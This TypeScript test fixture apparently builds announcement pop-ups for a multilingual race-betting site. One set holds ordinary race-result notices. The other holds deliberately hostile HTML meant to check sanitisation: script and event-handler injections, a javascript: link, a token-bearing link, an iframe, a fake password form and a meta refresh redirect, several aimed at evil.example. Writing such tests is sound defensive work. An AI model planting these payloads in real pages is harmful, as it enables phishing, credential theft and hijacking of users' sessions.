/** Pop-ups for two scenarios: very many, and hostile ones. */
import { type Announcement, html, paragraphs, translated } from './types.ts';

const PER_AUDIENCE = 19;
const EVERY_HOURS = 7;
const draw = (execution: Announcement['execution'], n: number): Announcement => ({
  id: `m${execution}${n}`,
  title: translated(`Results of evening race ${n}`, `晚间第 ${n} 场赛果`, `Keputusan perlumbaan malam ke-${n}`),
  content: paragraphs(
    `Race ${n} was run over six furlongs on firm ground. Bets on it have been settled; your record shows yours.`,
    `第 ${n} 场赛程六弗隆，场地坚实。相关投注均已结算，请在投注记录中查看。`,
    `Perlumbaan ke-${n} berlangsung sejauh enam furlong di atas trek keras. Pertaruhan telah diselesaikan; rekod anda menunjukkan milik anda.`,
  ),
  execution,
  hoursAgo: n * EVERY_HOURS,
});
/** Newest first. */
export const MANY_POPUPS: readonly Announcement[] = (['A', 'B'] as const).flatMap((execution) =>
  Array.from({ length: PER_AUDIENCE }, (_, index) => draw(execution, index + 1)),
);

/** Attempts of a compromised house: to run a script, to leave the page, to cover the page, to ask for a password. */
const ATTEMPTS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"></svg>',
  '<a href="javascript:window.hacked = 1">one</a>',
  '<a href="//evil.example/">two</a>',
  '<a href="/?token=somebody-elses-token-somebody-elses-token">three</a>',
  '<a href="https://evil.example/login">four</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
  '<div style="position:fixed;inset:0;background:red" class="slip-dialog" id="root">over everything</div>',
  '<style>body { display: none }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
].join('');
const attempt = (execution: Announcement['execution']): Announcement => ({
  id: `h${execution}`,
  title: translated('A text that tries to do harm', '企图作恶的文字', 'Teks yang cuba membawa mudarat'),
  content: html(
    `<p>What is left of this is harmless.</p>${ATTEMPTS}<p>End.</p>`,
    `<p>其中留下的均无害。</p>${ATTEMPTS}<p>完。</p>`,
    `<p>Apa yang tinggal daripada ini tidak berbahaya.</p>${ATTEMPTS}<p>Tamat.</p>`,
  ),
  execution,
  hoursAgo: 1,
});
export const HOSTILE_POPUPS: readonly Announcement[] = [attempt('A'), attempt('B')];
